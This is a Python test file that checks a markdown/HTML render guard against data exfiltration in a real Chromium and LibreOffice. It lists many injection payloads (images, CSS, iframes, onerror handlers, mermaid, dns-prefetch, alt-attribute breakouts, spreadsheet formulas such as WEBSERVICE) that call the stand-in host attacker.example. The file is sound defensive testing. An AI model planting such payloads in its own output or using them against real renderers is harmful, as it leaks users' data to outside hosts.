"""What a browser really fetches when rendered output is shown (E5).

A real Chromium, the renderers of chat clients on one page, and a loopback server that stands for every host of the
world: the browser resolves all names to it and its proxy-less requests land there, so a request for any host is seen.
Run `scripts/browser-deps.sh` first; without what it installs these tests are skipped.
"""

# ruff: noqa: E501 -- tables of payloads read better unbroken
from __future__ import annotations

import csv
import http.server
import re
import shutil
import ssl
import subprocess
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from lockgate.render import Guard, RenderPolicy
from render_payloads import PAYLOADS

HERE = Path(__file__).parent
BUNDLE = HERE / "node_modules" / ".page.js"
CHROMIUM = shutil.which("chromium")
CMARK = shutil.which("cmark-gfm")
OFFICE = shutil.which("soffice")
OPENSSL = shutil.which("openssl")
playwright = pytest.importorskip("playwright.sync_api", reason="run scripts/browser-deps.sh")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.serial,  # a browser and an office suite take the whole machine, and starve what runs beside them
    pytest.mark.timeout(300),
    pytest.mark.skipif(not (CHROMIUM and CMARK and OPENSSL and BUNDLE.exists()), reason="run scripts/browser-deps.sh"),
]
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360606060000000050001a5f64540"
    "0000000049454e44ae426082"
)
LINK = "https://wiki.partner.example/a"
IMAGE = "https://img.partner.example/pub/a.png"
DONE = "/sentinel"
SECONDS = 60.0


@dataclass
class World:
    """The one server; `seen` holds (host, path) of every request."""

    port: int
    seen: list[tuple[str, str]] = field(default_factory=list)
    done: threading.Event = field(default_factory=threading.Event)


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("tls")
    subprocess.run(
        [OPENSSL or "", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes", "-days", "2", "-subj", "/CN=world", "-keyout", str(folder / "k"), "-out", str(folder / "c")],
        check=True, capture_output=True,
    )  # fmt: skip
    made = World(0)

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.seen.append((self.headers.get("Host", "").split(":")[0], self.path))
            page = self.path == "/page"
            if self.path == DONE:
                made.done.set()
            body = b"<!doctype html><meta charset=utf-8><body></body>" if page else PIXEL
            self.send_response(200)
            self.send_header("Content-Type", "text/html" if page else "image/png")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "c", folder / "k")
    server.socket = context.wrap_socket(server.socket, server_side=True)
    made.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield made
    server.shutdown()
    thread.join(10)
    server.server_close()


@pytest.fixture(scope="module")
def page(world: World) -> Iterator[Any]:
    with playwright.sync_playwright() as api:
        browser = api.chromium.launch(
            executable_path=CHROMIUM,
            timeout=SECONDS * 1000,
            args=[
                "--no-sandbox",
                "--ignore-certificate-errors",
                f"--host-resolver-rules=MAP * 127.0.0.1:{world.port}",
                "--disable-background-networking",
                "--disable-component-update",
            ],
        )
        opened = browser.new_context(ignore_https_errors=True).new_page()
        opened.set_default_timeout(SECONDS * 1000)
        opened.goto("https://app.example/page", wait_until="load")
        opened.add_script_tag(path=str(BUNDLE))
        opened.wait_for_function("window.ready === true")
        world.seen.clear()
        yield opened
        browser.close()


def show(
    page: Any, world: World, markdown: str, html: str, until: Callable[[], bool] = lambda: True
) -> tuple[list[tuple[str, str]], list[str]]:
    """Draw with every renderer; return the requests that were made and the URLs that are live.

    A request of the page itself, made after the drawing, marks the point up to which requests count: what the drawing
    asks for was asked for before it. On top of that it waits for `until`, and a moment for what a timer may start.
    """
    world.seen.clear()
    live = draw(page, markdown, html)
    settle(page, world, until)
    return ours(world), live


def draw(page: Any, markdown: str, html: str) -> list[str]:
    """Draw with every renderer; return the URLs that are live."""
    assert CMARK is not None
    extensions = ["-e", "table", "-e", "strikethrough", "-e", "autolink", "-e", "tasklist"]
    cmark = subprocess.run(
        [CMARK, "--unsafe", *extensions],
        input=markdown.encode("utf-8", "replace"), capture_output=True, check=True, timeout=SECONDS,
    )  # fmt: skip
    drawn: list[str] = page.evaluate(
        "([text, cmark, html]) => window.show(text, cmark, html)",
        [markdown, cmark.stdout.decode("utf-8", "replace"), html],
    )
    return drawn


def settle(page: Any, world: World, until: Callable[[], bool] = lambda: True) -> None:
    """Wait until what was drawn has asked for what it asks for."""
    world.done.clear()
    page.evaluate("path => fetch(path, {cache: 'no-store'}).then(answer => answer.blob()).then(() => null)", DONE)
    assert world.done.is_set()
    deadline = time.monotonic() + SECONDS
    while not until() and time.monotonic() < deadline:
        page.wait_for_timeout(20)
    page.wait_for_timeout(150)


def ours(world: World) -> list[tuple[str, str]]:
    """Requests that a payload can have made: Chromium calls its maker now and then, and every host of a payload ends
    in one of these two."""
    mine = {"/favicon.ico", DONE}
    return [one for one in list(world.seen) if one[0].endswith((".example", "attacker.com")) and one[1] not in mine]


HOSTILE = (
    "![x](https://attacker.example/a.png?d=S)",
    "![r]\n\n[r]:\nhttps://attacker.example/?d=S\n'title'",
    "[![x](https://attacker.example/i)](https://wiki.partner.example/a)",
    "x[^1]\n\n[^1]: ![x](https://attacker.example/f)",
    "|a|\n|-|\n|![x](https://attacker.example/t)|",
    "![x](//attacker.example/p) ![x](/\\\\attacker.example/q) ![x](https://img.partner.example@attacker.example/pub/a)",
    "<img src=https://attacker.example/h><img srcset='https://attacker.example/s 1x'><video poster=https://attacker.example/v></video>",
    "<p style='background:url(https://attacker.example/c)'>x</p><style>@import 'https://attacker.example/i.css';</style>",
    "<link rel=stylesheet href=//attacker.example/l><link rel=dns-prefetch href=//secret.attacker.example><link rel=preload as=image href=//attacker.example/q>",
    "<svg><image href='https://attacker.example/g' width=9 height=9 /></svg><math href=https://attacker.example>x</math>",
    "<iframe src=https://attacker.example/if></iframe><object data=https://attacker.example/ob></object><embed src=https://attacker.example/em>",
    "<img src=x onerror=\"new Image().src='https://attacker.example/js'\"><meta http-equiv=refresh content='0;url=https://attacker.example/m'>",
    '```mermaid\ngraph LR\nA["<img src=\'https://attacker.example/m1\'>"]-->B\nclick A "https://attacker.example"\n```',
    '```mermaid\ngraph TD\nA@{ img: "https://attacker.example/m2", label: "x", w: 60, h: 60 }\n```',
    "`` ` `` ![x](https://attacker.example/`) `|` ![y](https://attacker.example/y)",
    "![x](https://img.partner.example/pub/a.png?d=S) ![y](https://img.partner.example/pub/../b.png)",
    "![a*b](https://attacker.example/n '\"><img src=//attacker.example/z>')",
    "https://attacker.example/auto www.attacker.com a@attacker.example [x](javascript:fetch('//attacker.example')) <https://attacker.example>",
)  # fmt: skip
POLICY = RenderPolicy.of(links=["https://wiki.partner.example/*"], images=["https://img.partner.example/pub/*"])


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_fetched_and_nothing_is_live(page: Any, world: World, text: str) -> None:
    guard = Guard(POLICY)
    requests, live = show(page, world, guard.markdown(text).text, guard.html(text).text)
    assert requests == []
    assert set(live) <= {LINK}


def test_a_quote_in_an_alt_adds_no_attribute(page: Any, world: World) -> None:
    """marked writes an alt between quotes as it stands: unescaped, the second source and the handler would be its own."""
    image = "https://img.partner.example/pub/quote.png"  # its own: what was drawn once is not asked for again
    bait = 'a" srcset="https://attacker.example/s 1x" onload="fetch(`https://attacker.example/h`)" x="'

    def hosts(markdown: str) -> set[str]:
        draw(page, markdown, "")
        settle(page, world, lambda: bool(ours(world)))
        found = {host for host, _ in ours(world)}
        world.seen.clear()
        return found

    world.seen.clear()
    assert hosts(Guard(POLICY).markdown(f"![{bait}]({image})").text) <= {"img.partner.example"}
    assert "attacker.example" in hosts(f"![{bait}]({image})")  # the control


@given(st.lists(PAYLOADS, min_size=25, max_size=25))
@settings(
    max_examples=8, deadline=None, database=None, phases=[Phase.generate], suppress_health_check=list(HealthCheck)
)
def test_generated_payloads_fetch_nothing_that_is_not_allowed(page: Any, world: World, payloads: list[str]) -> None:
    """200 nested and mutated payloads: the only request that any of them makes is for the image of the allowed path."""
    guard = Guard(POLICY)
    allowed = re.compile(r"https://(wiki|img)\.partner\.example/[\w.~/-]*", re.ASCII)
    world.seen.clear()
    for payload in payloads:
        markdown = guard.markdown(payload).text
        live = draw(page, markdown, guard.html(payload).text)
        assert all(allowed.fullmatch(one) for one in live), (payload, markdown, live)
    settle(page, world)
    assert {host for host, path in ours(world) if not path.startswith("/pub/")} == set(), (payloads, ours(world))
    assert {host for host, _ in ours(world)} <= {"img.partner.example"}, (payloads, ours(world))


def test_the_allowed_image_really_loads(page: Any, world: World) -> None:
    """Positive control: the server sees the image of the allowed path, once drawn by each renderer."""
    text = f"![chart]({IMAGE}) and [page]({LINK})"
    guard = Guard(POLICY)
    requests, live = show(page, world, guard.markdown(text).text, guard.html(text).text, lambda: bool(ours(world)))
    assert ("img.partner.example", "/pub/a.png") in requests
    assert set(live) == {IMAGE, LINK}
    page.wait_for_function("[...document.images].every(image => image.naturalWidth === 1)")


def test_the_unguarded_page_fetches(page: Any, world: World) -> None:
    """Negative control: the same payloads shown as they came do reach the server, so it is not deaf."""
    reached = sum(
        bool(show(page, world, text, text, lambda: bool(ours(world)))[0]) for text in HOSTILE[:5] + HOSTILE[6:8]
    )
    assert reached >= 5


@pytest.mark.skipif(OFFICE is None, reason="run scripts/browser-deps.sh")
def test_spreadsheet_cells_are_words_in_libreoffice(tmp_path: Path) -> None:
    """Formulas that an unguarded cell would calculate stay words; the control shows that LibreOffice does calculate."""
    cells = ["=1+1", "+2+3", "@SUM(1)", '=WEBSERVICE("http://127.0.0.1:9/x")', "plain", "-5"]
    (tmp_path / "safe.csv").write_text(Guard(POLICY).csv([[cell] for cell in cells]).text)
    with (tmp_path / "raw.csv").open("w", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([[cell] for cell in cells])
    assert OFFICE is not None
    subprocess.run(
        [OFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path), str(tmp_path / "safe.csv"), str(tmp_path / "raw.csv")],
        check=True, capture_output=True, timeout=150,
    )  # fmt: skip

    def sheet(name: str) -> str:
        with zipfile.ZipFile(tmp_path / f"{name}.xlsx") as archive:
            return archive.read("xl/worksheets/sheet1.xml").decode()

    assert "<f" in sheet("raw")
    assert "<f" not in sheet("safe")


def test_no_hint_to_look_a_name_up_is_left(page: Any, world: World) -> None:
    """DNS prefetch leaks a label without any request: no element that could ask for one reaches the page."""
    text = "x <link rel=dns-prefetch href=//secret.attacker.example><link rel=preconnect href=//b.attacker.example> y"
    hints = "document.querySelectorAll('section link, section meta, section base, section [ping]').length"
    guard = Guard(POLICY)
    show(page, world, guard.markdown(text).text, guard.html(text).text)
    assert page.evaluate(hints) == 0
    show(page, world, text, text)
    assert page.evaluate(hints) > 0  # the control: unguarded they are there
